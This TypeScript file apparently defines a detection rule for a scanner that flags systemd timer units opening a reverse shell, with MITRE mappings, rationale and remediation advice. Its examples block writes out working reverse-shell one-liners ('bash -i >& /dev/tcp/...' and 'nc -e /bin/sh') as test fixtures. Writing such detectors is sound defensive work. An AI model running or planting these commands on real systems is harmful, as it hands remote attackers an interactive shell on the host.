import { evidenceAt } from "./evidence.ts";
import { timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { behavioursOfKind } from "./subject.ts";

/** A shell's input and output are joined to the network. */
export const reverseShell: ActivationRule = {
  id: "reverse-shell",
  subject: "activation",
  title: "Opens a shell to another machine",
  severity: "critical",
  confidence: "high",
  signal: "hostile",
  family: "execution",
  depth: "regular",
  techniques: ["T1053.006", "T1059.004", "T1071"],
  controls: ["SC-7", "SI-4"],
  why: "A shell whose input comes from a socket lets somebody elsewhere type commands as the timer's account, again at each elapse. Nothing on a server needs that.",
  benign: ["Text that only mentions such a command, as an argument or comment (not accused)"],
  clears: "remove the unit after keeping a copy; use ssh with keys for remote administration",
  references: ["https://attack.mitre.org/techniques/T1059/004/"],

  *check(activation, inventory) {
    for (const { behaviour } of behavioursOfKind(activation, new Set(["reverse-shell"])))
      yield {
        says: behaviour.says,
        confidence: behaviour.confidence,
        evidence: [evidenceAt(inventory, behaviour.span)],
      };
  },

  examples: () => ({
    fires: [timed("ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'")],
    quiet: [
      timed("ExecStart=/usr/bin/logger 'nc -e /bin/sh 192.0.2.1 4444'"),
      timed("ExecStart=/usr/bin/timeout 1 bash -c '</dev/tcp/192.0.2.1/22'"),
    ],
  }),
};
